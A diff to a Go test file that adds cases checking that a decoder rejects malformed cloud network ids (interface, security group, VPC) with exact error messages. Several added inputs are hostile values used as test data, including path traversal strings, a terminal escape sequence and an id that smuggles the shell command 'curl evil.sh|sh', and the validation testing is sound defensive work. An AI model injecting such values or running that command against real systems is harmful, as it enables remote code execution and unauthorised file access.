@@ -126,6 +126,22 @@ func TestDecodeChecksValues(t *testing.T) {
 			`security_groups[1]: group sg-2: account_id "１１１１２２２２３３３３": an account id is exactly 12 digits`},
 		{"interface account", func(m map[string]any) { item(m, "network_interfaces", 0)["account_id"] = "" },
 			`network_interfaces[0]: account_id "": an account id is exactly 12 digits`},
+		{"interface id", func(m map[string]any) { item(m, "network_interfaces", 0)["id"] = "eni-1\x1b[2J" },
+			`network_interfaces[0]: id "eni-1\x1b[2J": not an id: "eni-", then only a-z, 0-9 and "-", at most 64 bytes`},
+		{"interface group id", func(m map[string]any) { item(m, "network_interfaces", 0)["group_ids"] = []string{"sg-1", "../sg-2"} },
+			`network_interfaces[0]: group_ids[1] "../sg-2": not an id: "sg-", then only a-z, 0-9 and "-", at most 64 bytes`},
+		{"interface vpc id", func(m map[string]any) { item(m, "network_interfaces", 0)["vpc_id"] = "vpc-1;x" },
+			`network_interfaces[0]: vpc_id "vpc-1;x": not an id: "vpc-", then only a-z, 0-9 and "-", at most 64 bytes`},
+		{"vpc id", func(m map[string]any) { item(m, "vpcs", 0)["id"] = "sg-1" },
+			`vpcs[0]: id "sg-1": not an id: "vpc-", then only a-z, 0-9 and "-", at most 64 bytes`},
+		{"group id", func(m map[string]any) { item(m, "security_groups", 1)["id"] = "sg-2;curl evil.sh|sh;#" },
+			`security_groups[1]: group: id "sg-2;curl evil.sh|sh;#": not an id: "sg-", then only a-z, 0-9 and "-", at most 64 bytes`},
+		{"peer group id", func(m map[string]any) {
+			rule(m)["peer"] = map[string]any{"kind": "security_group", "group_id": "../../../../tmp/x"}
+		}, `security_groups[1]: group sg-2, rule sgr-2: peer.group_id "../../../../tmp/x": not an id: "sg-", then only a-z, 0-9 and "-", at most 64 bytes`},
+		{"attachment interface id", func(m map[string]any) {
+			item(m, "security_groups", 1)["attachments"] = []map[string]any{{"network_interface_id": "eni-1/x"}}
+		}, `security_groups[1]: group sg-2: attachments[0].network_interface_id "eni-1/x": not an id: "eni-", then only a-z, 0-9 and "-", at most 64 bytes`},
 		{"vpc account", func(m map[string]any) { item(m, "vpcs", 0)["account_id"] = "111122223333 " },
 			`vpcs[0]: account_id "111122223333 ": an account id is exactly 12 digits`},
 		{"prefix list account", func(m map[string]any) { item(m, "prefix_lists", 0)["account_id"] = "x" },
